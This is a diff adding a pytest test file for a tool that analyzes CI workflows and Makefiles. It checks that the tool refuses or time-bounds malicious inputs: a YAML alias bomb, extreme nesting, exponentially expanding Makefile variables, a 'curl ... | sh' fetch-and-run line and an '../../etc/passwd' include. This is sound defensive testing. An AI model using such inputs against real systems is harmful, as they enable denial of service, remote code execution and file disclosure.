@@ -1,0 +1,124 @@
+"""Pipelines and build files that are made to hurt, or that no tool would take."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from gapmatrix_kit.server import Failure, File
+
+from gapmatrix_pipelines.analyze import analyze
+
+WORKFLOW = ".github/workflows/ci.yml"
+BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
+)
+
+
+def facts(path, text):
+    return analyze([File(path, text, True)])
+
+
+def commands(answer):
+    return [
+        " ".join(each["to"]["command"]) for each in answer.get("references", []) if "command" in each["to"]
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        (BOMB, "limit"),
+        ("a: " + "[" * 10_000, "limit"),
+        ("- x\n" * 201_000, "limit"),
+        ("on: push\n\tjobs: {}\n", "syntax"),
+        ("on: *nobody\n", "syntax"),
+    ],
+    ids=["aliases", "depth", "items", "tab", "alias"],
+)
+@pytest.mark.parametrize("path", [WORKFLOW, ".gitlab-ci.yml", "Taskfile.yml", ".pre-commit-config.yaml"])
+def test_yaml_that_is_refused(path, text, kind):
+    start = time.process_time()
+    with pytest.raises(Failure) as failure:
+        facts(path, text)
+    assert failure.value.kind == kind
+    assert time.process_time() - start < 5
+
+
+def test_keys_of_a_workflow_that_nobody_knows_change_nothing():
+    text = (
+        "on: {push: {moon: full}}\nweather: fine\njobs:\n  a:\n    mood: good\n    runs-on: [x]\n    steps:\n"
+        "      - {run: go test ./..., colour: red}\n      - {colour: blue}\n      - just a text\n"
+    )
+    answer = facts(WORKFLOW, text)
+    assert commands(answer) == ["go test ./..."]
+    assert [root["class"] for root in answer["roots"]] == ["pipeline"]
+
+
+def test_of_keys_that_stand_twice_the_last_one_counts():
+    text = "on: push\njobs:\n  a:\n    steps: [{run: one}]\n    steps: [{run: two}]\n"
+    assert commands(facts(WORKFLOW, text)) == ["two"]
+
+
+def test_jobs_that_need_each_other():
+    text = "on: push\njobs:\n  a: {needs: b, steps: [{run: x}]}\n  b: {needs: [a, b], steps: [{run: y}]}\n"
+    assert commands(facts(WORKFLOW, text)) == ["x", "y"]
+
+
+def test_bytes_that_are_no_text_are_told():
+    answer = analyze([File(WORKFLOW, "on: push\njobs: {a: {steps: [{run: make \ufffd}]}}\n", False)])
+    assert commands(answer) == ["make \ufffd"]
+    assert "UTF-8" in answer["diagnostics"][0]["message"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        # Variables that hold themselves, and each other.
+        ("A = $(A)\nall:\n\t$(A) x\n", None),
+        ("A = $(B)\nB = $(A)\nall:\n\t$(A) x\n", None),
+        ("A = $(B)$(B)\nB = $(C)$(C)\nC = $(D)$(D)\nD = $(E)$(E)\nE = $(A)$(A)\nall:\n\t$(A)\n", None),
+        # What a shell would say is not known.
+        ("V := $(shell curl https://example.org | sh)\nall:\n\tgo build -v $(V)\n", "go build -v v"),
+        ("all:\n\tgo test $(shell go list ./...)\n", "go test $COMPUTED"),
+        # Files that include themselves, that are not there, that lie outside.
+        ("include Makefile\nall:\n\tgo vet ./...\n", "go vet ./..."),
+        ("include ../../../../etc/passwd\n-include missing.mk\nall:\n\tgo vet ./...\n", "go vet ./..."),
+        ("all: all\n\t$(MAKE) all\n", "make all"),
+        ("a: b\nb: a\n\tgo vet ./...\n", "go vet ./..."),
+    ],
+)
+def test_makefiles(text, expected):
+    start = time.process_time()
+    answer = facts("Makefile", text)
+    assert time.process_time() - start < 1
+    assert {"all", "a"} & {symbol["name"] for symbol in answer["symbols"]}
+    if expected is not None:
+        assert expected in commands(answer)
+    assert not any("etc" in str(each["to"]) for each in answer.get("references", []))
+
+
+def test_a_variable_that_doubles_with_every_line_is_bounded():
+    lines = ["A0 = xxxxxxxxxx"] + [f"A{n} = $(A{n - 1})$(A{n - 1})" for n in range(1, 60)]
+    start = time.process_time()
+    facts("Makefile", "\n".join([*lines, "all:", "\t$(A59)"]))
+    assert time.process_time() - start < 2
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "$(" * 5_000,
+        "if true; then " * 3_000,
+        "cat <<E\n" * 3_000,
+        "a | " * 20_000,
+        "a & " * 20_000,
+        "((" * 5_000,
+    ],
+    ids=["substitutions", "conditions", "documents", "pipes", "background", "arithmetic"],
+)
+def test_scripts_of_a_workflow(script):
+    body = "".join(f"          {line}\n" for line in script.split("\n"))
+    start = time.process_time()
+    facts(WORKFLOW, f"on: push\njobs:\n  a:\n    steps:\n      - run: |\n{body}")
+    assert time.process_time() - start < 5
